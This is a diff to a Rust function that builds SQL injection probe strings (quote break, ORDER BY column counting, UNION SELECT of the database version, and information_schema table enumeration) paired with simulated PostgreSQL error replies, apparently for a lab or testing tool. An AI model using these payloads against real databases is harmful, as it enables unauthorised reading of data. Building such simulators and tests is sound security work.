@@ -851,8 +851,13 @@ fn payload(probe: &Probe, store: &Store) -> (String, Injected) {
         })
     };
     match probe {
-        Probe::Quote => ("zq'".to_owned(), Injected::Error("42601", "unterminated quoted string at or near \"' ORDER BY 1 LIMIT 20\"".to_owned())),
-        Probe::OrderBy => ("zq' ORDER BY 5 --".to_owned(), Injected::Error("42P10", "ORDER BY position 5 is not in select list".to_owned())),
+        Probe::Quote => {
+            ("zq')".to_owned(), Injected::Error("42601", "syntax error at or near \")\"".to_owned(), ")%"))
+        }
+        Probe::OrderBy => {
+            let message = "ORDER BY position 5 is not in select list".to_owned();
+            ("zq' ORDER BY 5 --".to_owned(), Injected::Error("42P10", message, "5 --"))
+        }
         Probe::Version => ("zq' UNION SELECT NULL, NULL, NULL, version() --".to_owned(), nothing(1)),
         Probe::Tables => ("zq' UNION SELECT table_schema, table_name, NULL, NULL FROM information_schema.tables WHERE table_schema = 'crew' --".to_owned(), nothing(6)),
         Probe::Identity(pier) => {
